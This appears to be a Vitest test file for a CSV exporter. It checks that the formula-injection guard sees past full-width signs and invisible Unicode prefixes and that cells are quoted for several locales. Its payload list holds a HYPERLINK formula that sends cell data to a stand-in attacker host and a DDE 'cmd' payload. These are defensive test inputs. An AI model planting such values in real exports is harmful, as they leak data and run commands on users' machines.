// docs/security.md, review finding 6: the formula guard sees through full-width signs and invisible
// prefixes, and every cell holding a separator of any common locale is quoted. Exhaustive over the
// known tricks, then properties over seeded random cells (reproducible: a failure prints its seed
// and cell).
import { describe, expect, it } from 'vitest';
import { buildCsvRow, escapeCsvCell, needsFormulaGuard, neutraliseCell } from './csv.ts';
import { createRandom } from './random.ts';

const ASCII_TRIGGERS = ['=', '+', '-', '@'];
/** Full-width (U+FF1D, U+FF0B, U+FF0D, U+FF20) and small forms (U+FE66, U+FE62, U+FE63, U+FE6B). */
const LOOKALIKE_TRIGGERS = ['\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '\uFE66', '\uFE62', '\uFE63', '\uFE6B'];
const INVISIBLE_PREFIXES = [
  '\u200B', // zero-width space
  '\u200C', // zero-width non-joiner
  '\u200D', // zero-width joiner
  '\u2060', // word joiner
  '\uFEFF', // byte-order mark / zero-width no-break space
  '\u00AD', // soft hyphen
  '\u200E', // left-to-right mark
  '\u200F', // right-to-left mark
  '\u061C', // Arabic letter mark
  '\u202A', // LRE
  '\u202B', // RLE
  '\u202C', // PDF
  '\u202D', // LRO
  '\u202E', // RLO
  '\u2066', // LRI
  '\u2067', // RLI
  '\u2068', // FSI
  '\u2069', // PDI
  ' ',
  '\u00A0', // no-break space
  '\u3000', // ideographic space
  '\n',
  '\u3164', // Hangul filler
  '\u034F', // combining grapheme joiner (Mn: invisible, with nothing to combine with)
  '\u0301', // combining acute accent (Mn)
  '\u20DD', // combining enclosing circle (Me)
];
const PAYLOADS = ['1+1', 'HYPERLINK("http://evil.example/?"&A1,"Click")', "cmd|' /C calc'!A0", 'SUM(A1:A9)'];

/** A minimal RFC 4180 reader for one row: the oracle the written cells must survive. */
function parseRow(line: string, separator = ','): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const char = line[i] as string;
    if (quoted) {
      if (char === '"' && line[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === separator) {
      cells.push(cell);
      cell = '';
    } else cell += char;
  }
  cells.push(cell);
  return cells;
}

describe('formula guard', () => {
  it('sees through a leading combining mark (the third review: U+034F then =2+5+cmd went out unguarded)', () => {
    expect(neutraliseCell('\u034F=2+5+cmd')).toBe("'\u034F=2+5+cmd");
    expect(needsFormulaGuard('\u034F\u034F\u200B@SUM(A1)')).toBe(true);
    // A mark on a letter is part of the text: nothing to guard.
    expect(needsFormulaGuard('e\u0301=x')).toBe(false);
  });

  it('guards every trigger, ASCII or look-alike, behind every invisible prefix (and none)', () => {
    for (const prefix of ['', ...INVISIBLE_PREFIXES, '\u200B\u202E ', '\uFEFF\u00A0\u200D']) {
      for (const trigger of [...ASCII_TRIGGERS, ...LOOKALIKE_TRIGGERS]) {
        for (const payload of PAYLOADS) {
          const cell = `${prefix}${trigger}${payload}`;
          expect(neutraliseCell(cell), JSON.stringify(cell)).toBe(`'${cell}`);
        }
      }
    }
  });

  it('guards a tab, CR or NUL at the start, also behind invisible characters', () => {
    for (const cell of ['\tx', '\rx', '\0x', '\u200B\tx', ' \rx', '\t', '\r'])
      expect(neutraliseCell(cell), JSON.stringify(cell)).toBe(`'${cell}`);
  });

  it('writes the original text, not the normalised one', () => {
    expect(neutraliseCell('\u200B\uFF1D1+1')).toBe("'\u200B\uFF1D1+1");
  });

  it('leaves ordinary text alone, signs inside it included', () => {
    for (const cell of ['Ana', 'a=b', '1-2', 'x@example.com', "O'Brien", '', '\u200B', '  ', 'Zoë', '½ bath'])
      expect(neutraliseCell(cell), JSON.stringify(cell)).toBe(cell);
  });

  it('judges a cell starting with ASCII as the full rule does, whatever mark follows its first character', () => {
    // The full rule, with no shortcut for a plain ASCII start: NFKC, skip the invisible start, judge.
    const fullRule = (value: string) => {
      const normalised = value.normalize('NFKC');
      const invisible =
        /^[\p{Cf}\p{Cc}\p{Mn}\p{Me}\p{Z}\s\u115F\u1160\u3164\uFFA0\u2800]+/u.exec(normalised)?.[0] ?? '';
      return /[\t\r\0]/.test(invisible) || /^[=+\-@\t\r]/.test(normalised.slice(invisible.length));
    };
    // Combining marks that compose with ASCII (U+0338 makes = into ≠, < into ≮), invisible ones, a trigger.
    const followers = ['', 'x', '\u0338', '\u0301', '\u034F', '\u200B', '\u20DD', '=', '\uFF1D'];
    for (let code = 0; code < 0x80; code += 1) {
      for (const follower of followers) {
        const cell = `${String.fromCharCode(code)}${follower}`;
        expect(needsFormulaGuard(cell), JSON.stringify(cell)).toBe(fullRule(cell));
      }
    }
  });
});

describe('quoting', () => {
  it('quotes a cell holding a comma, semicolon, tab, quote, CR or LF — and only those', () => {
    for (const cell of ['a,b', 'a;b', 'a\tb', 'a"b', 'a\rb', 'a\nb'])
      expect(escapeCsvCell(cell), JSON.stringify(cell)).toBe(`"${cell.replaceAll('"', '""')}"`);
    expect(escapeCsvCell('plain text')).toBe('plain text');
    expect(escapeCsvCell(['pets', 'vip'])).toBe('"pets; vip"');
  });
});

const ALPHABET = [
  ..."abcXYZ019 .'",
  ...ASCII_TRIGGERS,
  ...LOOKALIKE_TRIGGERS,
  ...INVISIBLE_PREFIXES,
  ',',
  ';',
  '\t',
  '\r',
  '"',
  '\0',
  'é',
  '\u{1F600}',
];

function randomCell(next: () => number): string {
  const length = Math.floor(next() * 8);
  let cell = '';
  for (let i = 0; i < length; i++) cell += ALPHABET[Math.floor(next() * ALPHABET.length)];
  return cell;
}

const LEADING_INVISIBLE = /^[\p{Cf}\p{Cc}\p{Z}\s\u115F\u1160\u3164\uFFA0\u2800]+/u;

describe('properties over random cells', () => {
  const SEED = 20251126;
  const next = createRandom(SEED);
  const cells = Array.from({ length: 5_000 }, () => randomCell(next));

  it('no written cell, once normalised and its invisible start skipped, starts with = + - @ (or is a control)', () => {
    for (const cell of cells) {
      const written = neutraliseCell(cell);
      const visible = written.normalize('NFKC').replace(LEADING_INVISIBLE, '');
      const startsWithControl = /^[\t\r\0]/.test(written);
      expect(/^[=+\-@]/.test(visible) || startsWithControl, `seed ${SEED}: ${JSON.stringify(cell)}`).toBe(false);
      // The guard only ever adds the quote: the text is the original.
      expect(written === cell || written === `'${cell}`).toBe(true);
      expect(written === `'${cell}`).toBe(needsFormulaGuard(cell));
    }
  });

  it('a row reads back cell for cell, and no unquoted cell holds a separator of any locale', () => {
    for (let i = 0; i + 3 <= cells.length; i += 3) {
      const row = cells.slice(i, i + 3);
      const line = buildCsvRow(row);
      expect(parseRow(line), `seed ${SEED}: ${JSON.stringify(row)}`).toEqual(row.map(neutraliseCell));
      for (const cell of row) {
        const escaped = escapeCsvCell(cell);
        if (!escaped.startsWith('"')) expect(escaped).not.toMatch(/[",;\t\r\n]/);
      }
      // Read by a locale that splits on ';' or tab, a quoted cell stays whole too.
      const semicolonLine = row.map(escapeCsvCell).join(';');
      expect(parseRow(semicolonLine, ';')).toEqual(row.map(neutraliseCell));
      const tabLine = row.map(escapeCsvCell).join('\t');
      expect(parseRow(tabLine, '\t')).toEqual(row.map(neutraliseCell));
    }
  });
});
